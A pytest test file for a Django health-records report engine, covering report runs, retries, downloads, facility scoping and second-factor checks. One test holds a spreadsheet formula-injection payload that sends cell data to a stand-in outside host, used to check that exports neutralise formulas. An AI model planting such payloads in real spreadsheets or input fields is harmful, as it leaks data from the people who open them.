"""The report engine: request, run, redeliver, requeue, download, scope."""

from __future__ import annotations

import csv
import io
import os
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from unittest import mock

import pytest
from django.contrib.auth.models import Group, Permission
from django.db import OperationalError
from django.urls import reverse
from django.utils import timezone
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice
from guardian.shortcuts import assign_perm
from openpyxl import load_workbook
from rest_framework.test import APIClient

from him import context, report_services, reports, roles, trail
from him.celery import app as celery_app
from him.models import AccessEvent, Facility, ReportRun, User
from him.tasks import execute_report_run, requeue_stale_report_runs

KEY = "access-trail-summary"
PARAMS = {"date_from": "2024-03-01", "date_to": "2024-03-03"}
Status = ReportRun.Status


# Fixtures ----------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _utc(settings):
    settings.TIME_ZONE = "UTC"


@pytest.fixture(autouse=True)
def _fresh_context():
    """Each test starts with no one in the request context. (force_login fires
    user_logged_in, whose receiver names the user in the context outside any
    request, so without this a test would inherit the previous test's user.)"""
    token = context.set_current(context.RequestContext())
    yield
    context.reset(token)


@pytest.fixture
def facilities(db):
    main = Facility.objects.create(code="MAIN", name="Riverside General")
    north = Facility.objects.create(code="NORTH", name="Northgate Clinic")
    return main, north


def _user(username: str, *, perms=(), groups=(), facility=None) -> User:
    user = User.objects.create_user(username=username, password="a-long-test-password-1")
    for dotted in perms:
        app_label, codename = dotted.split(".")
        user.user_permissions.add(
            Permission.objects.get(content_type__app_label=app_label, codename=codename)
        )
    for name in groups:
        user.groups.add(Group.objects.get(name=name))
    if facility is not None:
        assign_perm("him.access_facility", user, facility)
    return User.objects.get(pk=user.pk)  # no cached permissions


ANALYST_PERMS = ("him.add_reportrun", "him.view_reportrun", "him.view_accessevent")


@pytest.fixture
def analyst(facilities):
    """Not a privileged role (no second factor), granted MAIN only."""
    return _user("analyst", perms=ANALYST_PERMS, facility=facilities[0])


@pytest.fixture
def other(facilities):
    return _user("other-analyst", perms=ANALYST_PERMS, facility=facilities[0])


@pytest.fixture
def privacy(facilities):
    return _user("privacy", groups=[roles.PRIVACY_OFFICER], facility=facilities[0])


def _verified_client(client, user):
    """A session that passed the second factor, as django-otp records it."""
    device = TOTPDevice.objects.create(user=user, name="test", confirmed=True)
    client.force_login(user)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    return client


def _event(at: datetime, *, username: str, action=trail.Action.READ, facility_id=None):
    with mock.patch.object(trail.timezone, "now", return_value=at):
        trail.record(action, username=username, object_type="test.thing", facility_id=facility_id)


@pytest.fixture
def events(facilities):
    main, north = facilities

    def at(*args):
        return datetime(*args, tzinfo=UTC)

    # In range (inclusive on both ends), facility MAIN or no facility.
    _event(at(2024, 3, 1, 0, 0, 0), username="alice", facility_id=main.pk)
    _event(at(2024, 3, 3, 23, 59, 59), username="alice", facility_id=main.pk)
    _event(at(2024, 3, 2, 12), username="alice", action=trail.Action.EXPORT)
    _event(at(2024, 3, 2, 13), username="bob", facility_id=main.pk)
    # Out of range.
    _event(at(2024, 2, 29, 23, 59, 59), username="alice", facility_id=main.pk)
    _event(at(2024, 3, 4, 0, 0, 0), username="alice", facility_id=main.pk)
    # Out of the analyst's facilities.
    _event(at(2024, 3, 2, 14), username="carol", facility_id=north.pk)


EXPECTED = {("alice", "Export"): 1, ("alice", "Read"): 2, ("bob", "Read"): 1}


def _request(user, params=PARAMS, fmt="csv") -> ReportRun:
    return report_services.report_run_request(
        user=user, report_key=KEY, parameters=params, output_format=fmt
    )


def _output_files(settings) -> list[Path]:
    folder = Path(settings.MEDIA_ROOT) / "reports"
    return sorted(folder.iterdir()) if folder.exists() else []


def _read(run: ReportRun) -> bytes:
    run.refresh_from_db()
    with run.output.open("rb") as handle:
        return handle.read()


def _csv_counts(data: bytes) -> dict:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Username", "Action", "Events", "First event", "Last event"]
    return {(r[0], r[1]): int(r[2]) for r in rows[1:]}


# Parameters ---------------------------------------------------------------------------


def test_registered_in_app_ready():
    report = reports.get(KEY)
    assert isinstance(report, reports.AccessTrailSummaryReport)
    assert set(report.formats) == {"csv", "xlsx", "pdf"}


def test_reversed_dates_are_refused_and_nothing_is_created(analyst):
    with pytest.raises(Exception) as caught:
        _request(analyst, {"date_from": "2024-03-05", "date_to": "2024-03-01"})
    assert "The date range is invalid" in str(caught.value)
    assert not ReportRun.objects.exists()


def test_choose_a_report_then_its_form(client, analyst):
    client.force_login(analyst)
    choose = client.get(reverse("reports:reportrun-add"))
    assert choose.status_code == 200
    assert f"?report={KEY}" in choose.content.decode()
    form = client.get(f"{reverse('reports:reportrun-add')}?report={KEY}").content.decode()
    for name in ("date_from", "date_to", "username", "output_format"):
        assert f'name="{name}"' in form
    assert '<option value="pdf">PDF</option>' in form
    assert client.get(f"{reverse('reports:reportrun-add')}?report=nope").status_code == 404


def test_web_form_shows_errors_and_keeps_input(client, analyst):
    client.force_login(analyst)
    url = reverse("reports:reportrun-add")
    response = client.post(
        f"{url}?report={KEY}",
        {"report": KEY, "date_from": "2024-03-05", "date_to": "2024-03-01", "output_format": "csv"},
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "The date range is invalid" in body
    assert 'value="2024-03-05"' in body  # nothing typed is lost
    missing = client.post(f"{url}?report={KEY}", {"report": KEY, "output_format": "csv"})
    assert missing.status_code == 400
    assert "This field is required." in missing.content.decode()
    assert not ReportRun.objects.exists()


def test_api_validation_errors(analyst):
    api = APIClient()
    api.force_authenticate(analyst)
    url = reverse("him-api:reportrun-list")
    bad = api.post(
        url,
        {
            "report_key": KEY,
            "parameters": {"date_from": "2024-03-05", "date_to": "2024-03-01"},
            "output_format": "csv",
        },
        format="json",
    )
    assert bad.status_code == 400
    assert "date range is invalid" in str(bad.json()["error"]["fields"]["parameters"])
    unknown = api.post(url, {"report_key": "nope", "output_format": "csv"}, format="json")
    assert unknown.status_code == 400
    assert "report_key" in unknown.json()["error"]["fields"]
    assert not ReportRun.objects.exists()


def test_api_odd_parameter_types_are_400_not_500(analyst):
    api = APIClient()
    api.force_authenticate(analyst)
    response = api.post(
        reverse("him-api:reportrun-list"),
        {
            "report_key": KEY,
            "parameters": {"date_from": 20240301, "date_to": {"x": 1}},
            "output_format": "csv",
        },
        format="json",
    )
    assert response.status_code == 400
    assert set(response.json()["error"]["fields"]["parameters"]) == {"date_from", "date_to"}
    bad_format = api.post(
        reverse("him-api:reportrun-list"),
        {"report_key": KEY, "parameters": PARAMS, "output_format": "docx"},
        format="json",
    )
    assert bad_format.status_code == 400
    assert not ReportRun.objects.exists()


# Running ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_run_goes_queued_to_done(fmt, analyst, events, eager, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        run = _request(analyst, fmt=fmt)
    run.refresh_from_db()
    assert run.status == Status.QUEUED and run.attempts == 0  # nothing sent before commit
    for callback in callbacks:
        callback()  # the commit: the task is sent (and, eager, runs)
    run.refresh_from_db()
    assert run.status == Status.DONE, run.error
    assert run.progress == 100
    assert run.attempts == 1
    assert run.row_count == 3
    assert run.started_at and run.finished_at and run.duration_seconds is not None
    assert run.output.name == f"reports/{run.public_id}.{fmt}"
    data = _read(run)
    if fmt == "csv":
        assert _csv_counts(data) == EXPECTED
    elif fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert sheet.freeze_panes == "A2"
        assert sheet["A1"].font.bold
        values = list(sheet.iter_rows(min_row=2, values_only=True))
        assert {(r[0], r[1]): r[2] for r in values} == EXPECTED
    else:
        assert data.startswith(b"%PDF")
    # Producing the output is an export in the trail, attributed to the requester.
    exports = AccessEvent.objects.filter(
        action=trail.Action.EXPORT, object_type="him.reportrun", object_id=str(run.public_id)
    )
    assert exports.count() == 1
    assert exports.get().username == "analyst"
    assert '"rows":3' in exports.get().detail


def test_counts_only_the_range_and_the_users_facilities(
    analyst, facilities, events, eager, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        everyone = _request(analyst)
        just_bob = _request(analyst, {**PARAMS, "username": "bob"})
        one_day = _request(analyst, {"date_from": "2024-03-01", "date_to": "2024-03-01"})
    assert _csv_counts(_read(everyone)) == EXPECTED  # carol (NORTH) is out of scope
    assert _csv_counts(_read(just_bob)) == {("bob", "Read"): 1}
    assert _csv_counts(_read(one_day)) == {("alice", "Read"): 1}
    # Granted NORTH too: carol's event appears.
    assign_perm("him.access_facility", analyst, facilities[1])
    analyst = User.objects.get(pk=analyst.pk)
    with django_capture_on_commit_callbacks(execute=True):
        wider = _request(analyst)
    assert _csv_counts(_read(wider)) == {**EXPECTED, ("carol", "Read"): 1}


def test_typed_usernames_never_become_spreadsheet_formulas(analyst, facilities):
    # A failed sign-in records whatever was typed as the username.
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    _event(datetime(2024, 3, 2, tzinfo=UTC), username=evil, action=trail.Action.LOGIN_FAILED)
    csv_run = _request(analyst)
    xlsx_run = _request(analyst, fmt="xlsx")
    for run in (csv_run, xlsx_run):
        assert report_services.report_run_execute(run_id=run.pk) == Status.DONE
    assert ("'" + evil, "Failed login") in _csv_counts(_read(csv_run))
    sheet = load_workbook(io.BytesIO(_read(xlsx_run))).worksheets[0]
    cell = sheet["A2"]
    assert cell.value == evil and cell.data_type == "s"


def test_redelivery_leaves_one_output_and_one_done(analyst, events, settings):
    run = _request(analyst)  # not sent: we deliver it by hand, twice
    assert report_services.report_run_execute(run_id=run.pk) == Status.DONE
    assert report_services.report_run_execute(run_id=run.pk) == "skipped"
    run.refresh_from_db()
    assert run.status == Status.DONE and run.attempts == 1
    assert [p.name for p in _output_files(settings)] == [f"{run.public_id}.csv"]

    # The worker died after writing the file but before its row said so; the lease
    # passed and another delivery runs it again: it overwrites, never adds.
    ReportRun.objects.filter(pk=run.pk).update(
        status=Status.RUNNING, lease_until=timezone.now() - timedelta(seconds=1)
    )
    assert report_services.report_run_execute(run_id=run.pk) == Status.DONE
    run.refresh_from_db()
    assert run.status == Status.DONE and run.attempts == 2
    assert [p.name for p in _output_files(settings)] == [f"{run.public_id}.csv"]
    assert _csv_counts(_read(run)) == EXPECTED


def test_redelivered_task_is_a_no_op(analyst, events, eager, settings):
    run = _request(analyst)
    execute_report_run.delay(run.pk)
    execute_report_run.delay(run.pk)
    run.refresh_from_db()
    assert run.status == Status.DONE and run.attempts == 1
    assert len(_output_files(settings)) == 1
    assert (
        AccessEvent.objects.filter(action=trail.Action.EXPORT, object_id=str(run.public_id)).count()
        == 1
    )


def test_a_live_lease_is_not_run_again(analyst, events, settings):
    run = _request(analyst)
    lease = timezone.now() + timedelta(minutes=10)
    ReportRun.objects.filter(pk=run.pk).update(status=Status.RUNNING, lease_until=lease, attempts=1)
    assert report_services.report_run_execute(run_id=run.pk) == "skipped"
    run.refresh_from_db()
    assert run.status == Status.RUNNING and run.attempts == 1 and run.lease_until == lease
    assert _output_files(settings) == []


def test_requeue_picks_up_expired_lease_and_lost_messages(
    analyst, events, eager, django_capture_on_commit_callbacks
):
    now = timezone.now()
    died = _request(analyst)
    ReportRun.objects.filter(pk=died.pk).update(
        status=Status.RUNNING, lease_until=now - timedelta(seconds=5), attempts=1
    )
    lost = _request(analyst)
    ReportRun.objects.filter(pk=lost.pk).update(lease_until=now - timedelta(seconds=5))
    fresh = _request(analyst)  # queued just now: its message is surely still on its way
    working = _request(analyst)
    ReportRun.objects.filter(pk=working.pk).update(
        status=Status.RUNNING, lease_until=now + timedelta(minutes=5), attempts=1
    )
    with django_capture_on_commit_callbacks(execute=True):
        requeue_stale_report_runs.delay()
    for run in (died, lost, fresh, working):
        run.refresh_from_db()
    assert died.status == Status.DONE and died.attempts == 2
    assert lost.status == Status.DONE and lost.attempts == 1
    assert fresh.status == Status.QUEUED
    assert working.status == Status.RUNNING


def test_requeue_gives_up_after_max_attempts(analyst, eager, django_capture_on_commit_callbacks):
    run = _request(analyst)
    ReportRun.objects.filter(pk=run.pk).update(
        status=Status.RUNNING,
        lease_until=timezone.now() - timedelta(seconds=5),
        attempts=report_services.MAX_ATTEMPTS,
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert report_services.report_runs_requeue_stale() == []
    run.refresh_from_db()
    assert run.status == Status.FAILED
    assert "could not be completed after 3 attempts" in run.error
    # A late delivery of the old message changes nothing.
    assert report_services.report_run_execute(run_id=run.pk) == "skipped"


def test_unexpected_error_is_readable_not_a_traceback(analyst, caplog):
    run = _request(analyst)
    with mock.patch.object(
        reports.AccessTrailSummaryReport, "generate", side_effect=ZeroDivisionError("boom")
    ):
        assert report_services.report_run_execute(run_id=run.pk) == Status.FAILED
    run.refresh_from_db()
    assert run.status == Status.FAILED
    assert "unexpected error" in run.error and "Traceback" not in run.error
    assert "ZeroDivisionError" in caplog.text  # the details went to the log


def test_transient_error_hands_the_claim_back_for_the_retry(analyst, events):
    run = _request(analyst)
    with (
        mock.patch.object(
            reports.AccessTrailSummaryReport, "generate", side_effect=OperationalError("gone")
        ),
        pytest.raises(OperationalError),
    ):
        report_services.report_run_execute(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == Status.QUEUED and run.attempts == 1
    assert report_services.report_run_execute(run_id=run.pk) == Status.DONE


def test_parameters_edited_into_nonsense_fail_readably(analyst):
    run = _request(analyst)
    ReportRun.objects.filter(pk=run.pk).update(
        parameters={"date_from": "2024-03-05", "date_to": "2024-03-01"}
    )
    assert report_services.report_run_execute(run_id=run.pk) == Status.FAILED
    run.refresh_from_db()
    assert run.error.startswith("The report parameters are not valid: The date range is invalid")


# Pages, polling, downloads -----------------------------------------------------------


def test_list_status_and_download(
    client, analyst, events, eager, django_capture_on_commit_callbacks
):
    client.force_login(analyst)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"{reverse('reports:reportrun-add')}?report={KEY}",
            {"report": KEY, **PARAMS, "output_format": "csv"},
        )
    assert response.status_code == 302
    run = ReportRun.objects.get()
    assert run.requested_by == analyst and run.status == Status.DONE

    page = client.get(reverse("reports:reportrun-list"))
    assert page.status_code == 200
    body = page.content.decode()
    assert f'id="run-{run.public_id}"' in body
    assert reverse("reports:reportrun-download", args=[run.public_id]) in body
    assert "<progress" in body and "style=" not in body and "<script>" not in body

    status = client.get(reverse("reports:reportrun-status", args=[run.public_id])).json()
    assert status["status"] == "done" and status["progress"] == 100
    assert status["status_display"] == "Done" and status["error"] == ""
    assert status["download_url"] == reverse("reports:reportrun-download", args=[run.public_id])

    download = client.get(status["download_url"])
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"]
    assert _csv_counts(b"".join(download.streaming_content)) == EXPECTED
    event = AccessEvent.objects.filter(
        action=trail.Action.EXPORT, object_id=str(run.public_id), detail__contains='"download"'
    ).get()
    assert event.username == "analyst"


def test_pending_rows_poll_and_cannot_be_downloaded(client, analyst):
    client.force_login(analyst)
    run = _request(analyst)  # queued, never sent
    body = client.get(reverse("reports:reportrun-list")).content.decode()
    assert f'data-poll-url="{reverse("reports:reportrun-status", args=[run.public_id])}"' in body
    status = client.get(reverse("reports:reportrun-status", args=[run.public_id])).json()
    assert status["status"] == "queued" and status["download_url"] is None
    assert (
        client.get(reverse("reports:reportrun-download", args=[run.public_id])).status_code == 404
    )


def test_another_users_run_is_404_everywhere(client, analyst, other, events):
    run = _request(analyst)
    report_services.report_run_execute(run_id=run.pk)
    client.force_login(other)
    assert client.get(reverse("reports:reportrun-status", args=[run.public_id])).status_code == 404
    assert (
        client.get(reverse("reports:reportrun-download", args=[run.public_id])).status_code == 404
    )
    assert str(run.public_id) not in client.get(reverse("reports:reportrun-list")).content.decode()
    api = APIClient()
    api.force_authenticate(other)
    assert api.get(reverse("him-api:reportrun-detail", args=[run.public_id])).status_code == 404
    assert api.get(reverse("him-api:reportrun-download", args=[run.public_id])).status_code == 404
    assert api.get(reverse("him-api:reportrun-list")).json()["results"] == []
    # Nothing was exported to the other user; their attempts are in the trail.
    assert not AccessEvent.objects.filter(
        username="other-analyst", action=trail.Action.EXPORT
    ).exists()
    assert AccessEvent.objects.filter(
        username="other-analyst", outcome=trail.Outcome.NOT_FOUND
    ).exists()


def test_role_without_report_permission_is_refused(client, facilities):
    tech = _user("tech", groups=[roles.HIM_TECHNICIAN], facility=facilities[0])
    client.force_login(tech)
    assert client.get(reverse("reports:reportrun-list")).status_code == 403
    assert client.get(reverse("reports:reportrun-add")).status_code == 403
    # An auditor may run reports, but not this one (no view_accessevent).
    auditor = _user("auditor", groups=[roles.AUDITOR], facility=facilities[0])
    client.force_login(auditor)
    assert client.get(f"{reverse('reports:reportrun-add')}?report={KEY}").status_code == 404
    with pytest.raises(reports.ReportError):
        _request(auditor)


def test_api_create_poll_download(analyst, events, eager, django_capture_on_commit_callbacks):
    api = APIClient()
    api.force_authenticate(analyst)
    available = api.get(reverse("him-api:reportrun-available")).json()
    assert [r["key"] for r in available] == [KEY]
    assert {p["name"] for p in available[0]["parameters"]} == {"date_from", "date_to", "username"}
    with django_capture_on_commit_callbacks(execute=True):
        created = api.post(
            reverse("him-api:reportrun-list"),
            {"report_key": KEY, "parameters": PARAMS, "output_format": "xlsx"},
            format="json",
        )
    assert created.status_code == 201, created.content
    run_id = created.json()["id"]
    detail = api.get(reverse("him-api:reportrun-detail", args=[run_id])).json()
    assert detail["status"] == "done" and detail["row_count"] == 3
    download = api.get(detail["download_url"], HTTP_ACCEPT="*/*")
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).worksheets[0]
    assert sheet.max_row == 4
    assert (
        AccessEvent.objects.filter(
            object_id=run_id, action=trail.Action.EXPORT, detail__contains='"download"'
        ).count()
        == 1
    )


# Second factor -------------------------------------------------------------------------


def test_privileged_user_without_second_factor_cannot_run_reports(client, privacy):
    client.force_login(privacy)
    response = client.get(reverse("reports:reportrun-add"))
    assert response.status_code == 302 and "/accounts/second-factor/" in response["Location"]
    posted = client.post(
        f"{reverse('reports:reportrun-add')}?report={KEY}",
        {"report": KEY, **PARAMS, "output_format": "csv"},
    )
    assert posted.status_code == 302 and "/accounts/second-factor/" in posted["Location"]
    api = APIClient()
    api.force_authenticate(privacy)
    refused = api.post(
        reverse("him-api:reportrun-list"),
        {"report_key": KEY, "parameters": PARAMS, "output_format": "csv"},
        format="json",
    )
    assert refused.status_code == 403
    with pytest.raises(reports.ReportError):
        _request(privacy)  # outside a verified session
    assert not ReportRun.objects.exists()


def test_privileged_user_with_second_factor_runs_under_that_session(
    client, privacy, events, eager, django_capture_on_commit_callbacks
):
    _verified_client(client, privacy)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"{reverse('reports:reportrun-add')}?report={KEY}",
            {"report": KEY, **PARAMS, "output_format": "pdf"},
        )
    assert response.status_code == 302
    run = ReportRun.objects.get()
    # The worker has no session: it relies on the context captured at request time.
    assert run.request_context["otp_verified"] is True
    assert run.request_context["user_id"] == privacy.pk
    assert run.status == Status.DONE, run.error
    assert _read(run).startswith(b"%PDF")


def test_run_without_verified_context_fails_readably(privacy, events):
    with context.use(context.RequestContext(user_id=privacy.pk, otp_verified=True)):
        run = _request(privacy)
    ReportRun.objects.filter(pk=run.pk).update(
        request_context={**run.request_context, "otp_verified": False}
    )
    assert report_services.report_run_execute(run_id=run.pk) == Status.FAILED
    run.refresh_from_db()
    assert "second factor" in run.error


# A real worker --------------------------------------------------------------------------


@pytest.fixture
def broker(tmp_path, settings):
    """The configured broker: Redis when REDIS_URL is set, else files under tmp_path."""
    conf = celery_app.conf
    saved = {
        "broker_url": conf.broker_url,
        "broker_transport_options": conf.broker_transport_options,
        "task_always_eager": conf.task_always_eager,
    }
    conf.task_always_eager = False
    settings.CELERY_TASK_ALWAYS_EAGER = False
    if not os.environ.get("REDIS_URL"):
        folder = tmp_path / "broker"
        (folder / "control").mkdir(parents=True)
        conf.broker_url = "filesystem://"
        conf.broker_transport_options = {
            "data_folder_in": str(folder),
            "data_folder_out": str(folder),
            "control_folder": str(folder / "control"),
            "store_processed": False,
        }
    _forget_connections()  # pools made under the old settings
    celery_app.control.purge()  # leftovers of earlier runs on the same broker
    yield conf.broker_url
    for name, value in saved.items():
        setattr(conf, name, value)
    _forget_connections()


def _forget_connections():
    # What Celery itself does after a fork: the next send builds pools from conf.
    celery_app._pool = None
    celery_app.amqp._producer_pool = None


@pytest.mark.broker
@pytest.mark.django_db(transaction=True)
def test_real_worker_runs_a_report(analyst, events, broker, settings):
    from celery.contrib.testing.worker import start_worker

    assert broker.startswith("redis://" if os.environ.get("REDIS_URL") else "filesystem://")
    with start_worker(
        celery_app, perform_ping_check=False, pool="solo", loglevel="WARNING", shutdown_timeout=30
    ):
        run = _request(analyst)  # autocommit: the message goes out now
        # Watch the output appear on disk rather than polling the row: SQLite's
        # in-memory test database is shared between threads in shared-cache mode,
        # where a reader's table lock makes the worker's write fail outright.
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline and not _output_files(settings):
            time.sleep(0.5)
    # Leaving the block stopped the worker after its task finished.
    for _ in range(20):
        try:
            run.refresh_from_db()
            break
        except OperationalError:
            time.sleep(0.5)
    assert run.status == Status.DONE, f"{run.status}: {run.error}"
    assert [p.name for p in _output_files(settings)] == [f"{run.public_id}.csv"]
    assert _csv_counts(_read(run)) == EXPECTED
    assert AccessEvent.objects.filter(
        action=trail.Action.EXPORT, object_id=str(run.public_id), username="analyst"
    ).exists()
